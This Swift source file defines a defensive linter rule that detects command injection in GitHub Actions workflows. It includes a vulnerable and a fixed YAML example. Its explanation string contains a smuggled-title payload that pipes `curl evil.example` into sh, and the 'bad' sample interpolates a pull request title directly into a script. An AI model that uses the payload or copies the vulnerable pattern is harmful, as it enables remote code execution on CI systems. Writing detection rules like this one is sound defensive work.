import Spec

extension Guideline {
    static let workflowInjection = Guideline(
        id: "workflow-injection",
        title: "A title that becomes a command",
        reason: "An expression in a script is put into it as text before any shell reads it: a branch or a title such "
            + "as `\"; curl evil.example | sh; \"` runs.",
        fix: "Hand it over as a variable: `env: {TITLE: ${{ github.event.issue.title }}}`, and write `\"$TITLE\"` in "
            + "the script.",
        serves: ["SF-13", "SF-16"], levels: .everywhere(.error),
        judge: .workflow { file in
            file.scripts.flatMap { text, node in
                Expressions(text).foreign.map { expression in
                    file.flag(
                        "`\(expression)` is written by whoever sends it in", at: file.span(of: expression, in: node))
                }
            }
        },
        bad: """
            on: pull_request
            permissions: {}
            jobs:
              test:
                runs-on: ubuntu-24.04
                timeout-minutes: 10
                steps:
                  - run: echo "${{ github.event.pull_request.title }}"
            """,
        good: """
            on: pull_request
            permissions: {}
            jobs:
              test:
                runs-on: ubuntu-24.04
                timeout-minutes: 10
                steps:
                  - run: echo "$TITLE"
                    env: {TITLE: "${{ github.event.pull_request.title }}"}
            """)
}
